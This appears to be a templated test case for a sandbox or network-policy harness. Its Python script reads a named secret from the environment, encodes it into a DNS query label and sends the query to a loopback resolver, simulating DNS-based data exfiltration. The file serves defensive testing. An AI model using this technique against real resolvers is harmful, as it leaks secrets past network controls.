# category: network
# attack: resolves names, and sends a DNS query carrying data to a resolver on the host's loopback
# expect: harmless
import os
import socket
import struct
for name in ("localhost", "example.com"):
    try:
        print(name, socket.getaddrinfo(name, 80)[0][4])
    except Exception as exc:
        print(name, "refused:", type(exc).__name__)
label = b"exfil-" + os.environ.get("@@SECRET_NAME@@", "nothing").encode()[:50]
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for part in (label, b"example", b"com"):
    query += bytes([len(part)]) + part
query += b"\0" + struct.pack(">HH", 1, 1)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query, ("127.0.0.1", @@UDP_PORT@@))
    print("query sent")
except Exception as exc:
    print("query refused:", type(exc).__name__)
